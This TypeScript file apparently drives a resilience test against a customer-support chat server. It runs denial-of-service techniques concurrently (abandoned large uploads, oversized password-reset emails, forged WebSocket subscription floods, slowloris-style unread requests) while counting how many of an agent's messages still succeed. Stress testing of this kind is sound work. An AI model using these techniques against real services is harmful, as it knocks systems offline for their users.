import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:net';
import { Pool } from 'undici';
import { WebSocket } from 'ws';
import { answerCalls } from '../kit/answer-calls.ts';

type Job = {
  url: string;
  accountId: number;
  token: string;
  conversation: number;
  seconds: number;
};

answerCalls({ run });

/**
 * Concurrently: uploads that stop halfway, emails to huge unknown addresses, sockets with forged subscriptions,
 * readers that never read; and an agent who writes, whose messages are counted.
 */
async function run(job: Job): Promise<{ messages: number; failed: number }> {
  const end = performance.now() + job.seconds * 1000;
  const pool = new Pool(job.url, { connections: 8 });
  const done = { messages: 0, failed: 0 };
  await Promise.all([
    until(end, 20, () => abandonUpload(job)),
    until(end, 20, () => requestEmail(pool)),
    until(end, 20, () => forgeSocket(job)),
    until(end, 1000, () => readNothing(job)),
    until(end, 50, () => writeMessage(pool, job, done)),
  ]);
  await pool.destroy();
  return done;
}

async function until(end: number, pauseMs: number, work: () => Promise<unknown>): Promise<void> {
  while (performance.now() < end) {
    // Requests that the server rejects or aborts are part of the attack.
    await work().catch(() => undefined);
    await sleep(pauseMs);
  }
}

const piece = Buffer.alloc(64 * 1024, 'x');

async function abandonUpload({ url, accountId, token }: Job): Promise<void> {
  const socket = open(url);
  socket.write(
    `POST /api/v1/accounts/${accountId}/upload HTTP/1.1\r\nhost: x\r\napi_access_token: ${token}\r\n` +
      'content-type: multipart/form-data; boundary=b\r\ncontent-length: 40000000\r\n\r\n' +
      '--b\r\ncontent-disposition: form-data; name="attachment"; filename="a.bin"\r\n\r\n',
  );
  for (let sent = 0; sent < 200 && !socket.destroyed; sent += 1) {
    if (!socket.write(piece)) await sleep(2);
  }
  socket.destroy();
}

async function requestEmail(pool: Pool): Promise<void> {
  const email = `${Math.random()}${'x'.repeat(60_000)}@example.com`;
  const answer = await pool.request({
    path: '/auth/password',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email }),
  });
  await answer.body.dump();
}

async function forgeSocket({ url, accountId }: Job): Promise<void> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/cable`, ['actioncable-v1-json']);
  socket.on('error', () => undefined);
  socket.on('open', () => {
    for (let index = 0; index < 20; index += 1) {
      const room = {
        channel: 'RoomChannel',
        pubsub_token: `x${Math.random()}`,
        account_id: accountId,
        user_id: 1,
      };
      socket.send(JSON.stringify({ command: 'subscribe', identifier: JSON.stringify(room) }));
    }
  });
  await sleep(50);
  setTimeout(() => socket.terminate(), 5000).unref();
}

async function readNothing({ url, accountId, token }: Job): Promise<void> {
  const socket = open(url);
  socket.pause();
  const path = `/api/v1/accounts/${accountId}/conversations?status=all`;
  socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\napi_access_token: ${token}\r\n\r\n`.repeat(20));
  setTimeout(() => socket.destroy(), 60_000).unref();
  await sleep(0);
}

async function writeMessage(pool: Pool, job: Job, done: { messages: number; failed: number }): Promise<void> {
  const answer = await pool.request({
    path: `/api/v1/accounts/${job.accountId}/conversations/${job.conversation}/messages`,
    method: 'POST',
    headers: { 'content-type': 'application/json', api_access_token: job.token },
    body: JSON.stringify({ content: 'Your parcel left yesterday.' }),
  });
  await answer.body.dump();
  if (answer.statusCode === 200) done.messages += 1;
  else done.failed += 1;
}

function open(url: string) {
  const { hostname, port } = new URL(url);
  return connect(Number(port), hostname).on('error', () => undefined);
}
